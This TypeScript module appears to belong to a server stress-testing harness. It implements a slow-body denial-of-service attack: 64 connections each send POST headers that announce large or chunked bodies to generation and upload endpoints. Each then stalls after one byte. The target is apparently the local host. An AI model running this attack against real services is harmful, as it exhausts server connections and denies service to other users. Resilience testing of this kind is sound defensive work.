/** Bodies that are announced and never arrive. */
import type { Attack } from "./Attack.ts"
import { openStalled } from "./openStalled.ts"

/** Number of connections. */
const connections = 64

/** Holds connections whose bodies stop after one byte: with a length, chunked, and of uploads. */
export const attack: Attack = async ({ keys: [key = ""], origin }) => {
  const shapes = [
    headOf("/v1/generations", key, "application/json", "content-length: 50331648") + "{",
    headOf("/v1/generations", key, "application/json", "transfer-encoding: chunked") + "1\r\n{\r\n",
    headOf("/v1/images/generations", key, "application/json", "content-length: 50331648") + "{",
    headOf("/v1/uploads", key, "image/png", "content-length: 10485760") + "\x89"
  ]
  return (tally, signal) =>
    openStalled({ origin, connections, tally, signal, bytesOf: (n) => shapes[n % shapes.length] ?? "" })
}

// -----------------------------------------------------------------------------
// internal
// -----------------------------------------------------------------------------

const headOf = (path: string, key: string, type: string, framing: string): string =>
  `POST ${path} HTTP/1.1\r\nhost: 127.0.0.1\r\nauthorization: Bearer ${key}\r\ncontent-type: ${type}\r\n${framing}\r\n\r\n`
